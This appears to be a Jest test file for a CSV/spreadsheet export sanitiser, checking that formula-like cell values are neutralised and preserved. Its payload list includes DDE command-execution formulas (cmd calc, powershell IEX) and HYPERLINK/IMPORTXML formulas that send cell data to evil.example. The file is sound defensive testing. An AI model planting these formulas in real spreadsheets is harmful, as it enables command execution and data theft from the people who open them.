import { existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { csvLine, csvPlain, csvSafe, workbookText } from './spreadsheet-safe.js';

/** Ways to write a formula that spreadsheet programs are known to run, or to run after what they skip. */
const FORMULAS = [
  '=1+1',
  '=SUM(A1:A9)',
  '+1+1',
  '-1+1',
  '-2+3+cmd|" /C calc"!A0',
  '@SUM(1+1)',
  '=cmd|" /C calc"!A0',
  '=cmd|"/C powershell IEX"!A0',
  '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
  '=IMPORTXML(CONCAT("https://evil.example/?",A1),"//a")',
  '=IMPORTDATA("https://evil.example")',
  '=IMAGE("https://evil.example/x.png")',
  '=WEBSERVICE("https://evil.example")',
  '=DDE("cmd";"/C calc";"x")',
  '+cmd|" /C calc"!A0',
  '@cmd|" /C calc"!A0',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\r\n=1+1',
  ' =1+1',
  '   +1+1',
  '\u00a0=1+1',
  '\ufeff=1+1',
  '\u200b=1+1',
  '\u2060=1+1',
  '\u202e=1+1',
  '\v=1+1',
  '\f=1+1',
  '\u001f=1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
  '−1+1',
  '="a",="b"',
  '=";=1+1;"',
  '"=1+1',
  '=1+1"',
  '=A1\r\n=A2',
  '\t',
  '\rplain',
];

const naughty = join(__dirname, '../../../../../../shared/data/security/naughty-strings/blns.json');

describe('cells of an export', () => {
  it.each(FORMULAS)('%j begins no formula, and is still there', (formula) => {
    const [row] = parse(csvLine([formula, 'next'])) as string[][];
    expect(row).toHaveLength(2);
    expect(row?.[0]).not.toMatch(/^[\s\p{Cc}\p{Cf}]*[=+\-@＝＋－−＠]/u);
    expect(row?.[0]?.endsWith(formula)).toBe(true);
  });

  it.each([...FORMULAS, "'=1+1", "''-x", "'plain", "'", "it's", "'tis", '', ' '])('%j comes back as it was', (text) => {
    expect(csvPlain(csvSafe(text))).toBe(text);
  });

  it('leaves ordinary words and numbers as they are', () => {
    expect(csvLine(['Läuft, mostly', 'a "quoted" word', -5, 1.5, true, null, undefined, new Date(0)])).toBe(
      '"Läuft, mostly","a ""quoted"" word",-5,1.5,true,,,1970-01-01T00:00:00.000Z\r\n',
    );
  });

  it('writes a workbook cell as text', () => {
    expect(workbookText('=1+1')).toEqual({ type: String, value: "'=1+1" });
  });

  it('keeps every naughty string whole and harmless', () => {
    if (!existsSync(naughty)) return void process.stdout.write(`No naughty strings here (${naughty}).\n`);
    const texts = JSON.parse(readFileSync(naughty, 'utf8')) as string[];
    const rows = parse(texts.map((text) => csvLine([text, '.'])).join('')) as string[][];
    expect(rows).toHaveLength(texts.length);
    rows.forEach(([cell = ''], index) => {
      expect(cell.replace(/^'/, '')).toBe(texts[index]?.replace(/^'/, ''));
      expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    });
  });
});
